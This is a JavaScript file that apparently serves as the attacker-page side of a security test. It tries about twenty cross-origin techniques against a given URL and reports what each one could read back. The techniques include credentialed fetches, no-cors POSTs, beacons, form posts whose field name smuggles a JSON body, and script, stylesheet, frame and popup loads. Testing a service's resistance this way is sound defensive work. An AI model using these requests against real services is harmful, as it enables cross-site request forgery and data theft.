// Served to the attacker's pages: each attack resolves, when the browser is through with it, with whatever the
// page could read of the answer.

/** @typedef {(url: string, method: string) => Promise<string>} Attack */

const patienceMs = 3000

/**
 * @param {string} url
 * @param {RequestInit} init
 */
async function read(url, init) {
  try {
    return await (await fetch(url, init)).text()
  } catch {
    return ''
  }
}

/**
 * Loads an element, and waits until the browser says how it went.
 *
 * @param {HTMLElement} element
 * @returns {Promise<void>}
 */
function load(element) {
  return new Promise((resolve) => {
    element.addEventListener('load', () => resolve())
    element.addEventListener('error', () => resolve())
    document.body.append(element)
  })
}

/** @param {() => string | null | undefined} look */
function tryToRead(look) {
  try {
    return look() ?? ''
  } catch {
    return ''
  }
}

/**
 * @param {string} url
 * @param {string} enctype
 */
async function submitForm(url, enctype) {
  const frame = document.createElement('iframe')
  frame.name = `frame-${Math.random()}`
  const form = Object.assign(document.createElement('form'), {
    action: url,
    method: 'post',
    enctype,
    target: frame.name,
  })
  const input = Object.assign(document.createElement('input'), {
    name: '{"max_concurrent":99,"x":"',
    value: '"}',
  })
  form.append(input)
  await load(frame)
  document.body.append(form)
  const loaded = new Promise((resolve) => {
    frame.addEventListener('load', resolve)
  })
  form.submit()
  await loaded
  return tryToRead(() => frame.contentDocument?.body.textContent)
}

/** @type {Record<string, Attack>} */
const attacks = {
  plainFetch: (url, method) => read(url, { method }),
  textBody: (url, method) => read(url, { method, body: '{"max_concurrent":99}' }),
  noCors: (url) => read(url, { method: 'POST', mode: 'no-cors', body: '{"max_concurrent":99}' }),
  noCorsEmpty: (url) => read(url, { method: 'POST', mode: 'no-cors', credentials: 'include' }),
  noCorsKeptAlive: (url) => read(url, { method: 'POST', mode: 'no-cors', keepalive: true, body: '{}' }),
  jsonBody: (url, method) =>
    read(url, { method, body: '{"max_concurrent":99}', headers: { 'Content-Type': 'application/json' } }),
  withCredentials: (url, method) =>
    read(url, { method, credentials: 'include', headers: { 'X-Requested-With': 'fetch' } }),
  beacon: async (url) => {
    navigator.sendBeacon(url, new Blob(['{"max_concurrent":99}'], { type: 'text/plain' }))
    return ''
  },
  form: (url) => submitForm(url, 'application/x-www-form-urlencoded'),
  textForm: (url) => submitForm(url, 'text/plain'),
  opaqueGet: (url) => read(url, { mode: 'no-cors', credentials: 'include' }),
  image: async (url) => {
    const image = new Image()
    image.src = url
    await load(image)
    return image.naturalWidth > 0 ? 'an image' : ''
  },
  script: async (url) => {
    /** @type {string[]} */
    const said = []
    addEventListener('error', ({ message }) => said.push(message))
    const script = document.createElement('script')
    script.src = url
    const names = new Set(Object.getOwnPropertyNames(globalThis))
    await load(script)
    return (
      Object.getOwnPropertyNames(globalThis)
        // A number is a frame of another attack.
        .filter((name) => !names.has(name) && !/^\d+$/.test(name))
        .concat(said.filter((message) => message !== 'Script error.'))
        .join()
    )
  },
  styleSheet: async (url) => {
    const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url })
    await load(link)
    return tryToRead(() => [...(link.sheet?.cssRules ?? [])].map(({ cssText }) => cssText).join())
  },
  frame: async (url) => {
    const frame = document.createElement('iframe')
    frame.src = url
    await load(frame)
    return tryToRead(() => frame.contentDocument?.body.textContent)
  },
  eventSource: (url) =>
    new Promise((resolve) => {
      const source = new EventSource(url, { withCredentials: true })
      const end = (/** @type {string} */ text) => {
        source.close()
        resolve(text)
      }
      for (const name of ['gateway', 'log', 'message']) {
        source.addEventListener(name, (event) => end(event instanceof MessageEvent ? String(event.data) : ''))
      }
      source.addEventListener('error', () => end(''))
    }),
  popup: async (url) => {
    const opened = open(url)
    if (opened === null) return ''
    const deadline = performance.now() + patienceMs
    const isBlank = () => tryToRead(() => opened.location.href) === 'about:blank'
    while (isBlank() && !opened.closed && performance.now() < deadline) {
      await new Promise((resolve) => {
        setTimeout(resolve, 10)
      })
    }
    const text = tryToRead(() => opened.document.body.textContent)
    opened.close()
    return text
  },
}

/**
 * @param {string} name
 * @returns {Promise<string>}
 */
function outOfPatience(name) {
  return new Promise((resolve) => {
    setTimeout(() => resolve(`${name} did not end`), 30 * patienceMs)
  })
}

Object.assign(globalThis, {
  /** @type {(name: string, url: string, method: string) => Promise<string>} */
  attack: (name, url, method) =>
    Promise.race([attacks[name]?.(url, method) ?? `there is no ${name}`, outOfPatience(`${name} ${url}`)]),
})
